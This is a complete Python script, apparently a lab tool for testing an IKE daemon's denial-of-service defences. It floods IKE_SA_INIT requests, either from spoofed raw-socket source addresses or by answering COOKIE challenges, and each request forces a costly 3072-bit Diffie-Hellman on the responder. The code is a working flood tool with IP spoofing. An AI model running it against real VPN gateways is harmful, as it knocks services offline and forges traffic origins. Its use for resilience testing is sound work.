#!/usr/bin/env python3
"""IKE_SA_INIT flood for the DoS lab (ike-daemon/tests/dos_lab.rs), bounded in time.

  ike-flood.py spoofed TARGET RATE SECONDS SRC_NET   raw socket, a new source
      address of SRC_NET (a /N) and a new SPI for every request; answers are
      never read (they go to the spoofed addresses).
  ike-flood.py cookie TARGET RATE SECONDS SOURCE      one real address; every
      COOKIE the responder sends is answered with the same request carrying
      it, as a legitimate initiator does (RFC 7296 2.6).

Each request offers aes256-sha256-modp3072 with a 384-octet MODP-3072 key
exchange value, so every request the responder takes costs it a 3072-bit
Diffie-Hellman. Prints one JSON line: requests sent, cookies answered, full
IKE_SA_INIT answers, the achieved rate.
"""

import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

KE = bytes([0x5A]) + os.urandom(383)
NONCE = os.urandom(32)


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    body = struct.pack("!BBH", ttype, 0, tid) + attrs
    return struct.pack("!BBH", 0 if last else 3, 0, 4 + len(body)) + body


def sa_body():
    ts = [
        transform(False, 1, 12, struct.pack("!HH", 0x800E, 256)),  # AES-CBC-256
        transform(False, 2, 5),  # PRF_HMAC_SHA2_256
        transform(False, 3, 12),  # AUTH_HMAC_SHA2_256_128
        transform(True, 4, 15),  # MODP-3072
    ]
    body = struct.pack("!BBBB", 1, 1, 0, len(ts)) + b"".join(ts)
    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body


SA = sa_body()


def ike_sa_init(spi, cookie=None):
    # N(COOKIE)? SA KE Ni
    ke = payload(40, struct.pack("!HH", 15, 0) + KE)
    ni = payload(0, NONCE)
    sa = payload(34, SA)
    body = sa + ke + ni
    first = 33
    if cookie is not None:
        body = payload(33, struct.pack("!BBH", 0, 0, 16390) + cookie) + body
        first = 41
    hdr = struct.pack("!QQBBBBII", spi, 0, first, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def parse_answer(data):
    """('cookie', data) | ('sa', None) | ('other', type)"""
    if len(data) < 28:
        return ("other", None)
    first = data[16]
    if first == 41 and len(data) >= 36:
        ntype = struct.unpack("!H", data[34:36])[0]
        plen = struct.unpack("!H", data[30:32])[0]
        if ntype == 16390:
            return ("cookie", data[36 : 28 + plen])
        return ("other", ntype)
    return ("sa", None)


def spoofed(target, rate, seconds, net):
    net = ipaddress.ip_network(net)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst = socket.inet_aton(target)
    base = int(net.network_address)
    size = net.num_addresses - 2
    sent = 0
    t0 = time.monotonic()
    end = t0 + seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * rate)
        while sent < due:
            src = struct.pack("!I", base + 1 + (sent * 7919) % size)
            ike = ike_sa_init(0x1000_0000_0000 + sent)
            udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
            try:
                s.sendto(ip + udp, (target, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(0.005)
    return {"sent": sent, "seconds": round(time.monotonic() - t0, 2)}


def cookie(target, rate, seconds, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((source, 0))
    s.setblocking(False)
    sent = cookies = sas = 0
    other = {}
    t0 = time.monotonic()
    end = t0 + seconds
    spi_of = {}
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * rate)
        while sent < due:
            spi = 0x2000_0000_0000 + sent
            try:
                s.sendto(ike_sa_init(spi), (target, 500))
            except OSError:
                pass
            sent += 1
        r, _, _ = select.select([s], [], [], 0.005)
        while r:
            try:
                data, _ = s.recvfrom(65535)
            except BlockingIOError:
                break
            kind, x = parse_answer(data)
            spi = struct.unpack("!Q", data[:8])[0] if len(data) >= 8 else 0
            if kind == "cookie":
                cookies += 1
                try:
                    s.sendto(ike_sa_init(spi, x), (target, 500))
                except OSError:
                    pass
            elif kind == "sa":
                sas += 1
            else:
                other[str(x)] = other.get(str(x), 0) + 1
    return {
        "sent": sent,
        "cookies_answered": cookies,
        "ike_sa_init_answers": sas,
        "other": other,
        "seconds": round(time.monotonic() - t0, 2),
    }


def main():
    mode, target, rate, seconds, arg = sys.argv[1:6]
    rate, seconds = float(rate), float(seconds)
    if mode == "spoofed":
        out = spoofed(target, rate, seconds, arg)
    elif mode == "cookie":
        out = cookie(target, rate, seconds, arg)
    else:
        sys.exit(f"unknown mode {mode}")
    out["mode"] = mode
    out["rate"] = round(out["sent"] / max(out["seconds"], 0.001), 1)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
